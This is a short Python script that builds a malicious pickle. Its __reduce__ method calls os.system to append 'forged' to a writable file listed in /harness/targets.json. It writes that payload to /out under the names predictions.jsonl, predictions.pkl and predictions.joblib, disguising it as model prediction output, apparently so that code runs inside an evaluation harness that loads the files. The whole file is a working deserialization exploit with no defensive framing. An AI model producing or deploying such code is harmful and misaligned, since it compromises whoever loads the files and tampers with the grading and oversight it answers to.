"""Writes a pickle that runs a command in whoever loads it."""

from __future__ import annotations

import json
import os
import pickle
from pathlib import Path


class Payload:
    """Runs when it is loaded."""

    def __reduce__(self) -> tuple[object, ...]:
        targets = json.loads(Path("/harness/targets.json").read_text())
        return os.system, (f"echo forged >> {targets['writable'][0]}",)


for name in ("predictions.jsonl", "predictions.pkl", "predictions.joblib"):
    Path("/out", name).write_bytes(pickle.dumps(Payload()))
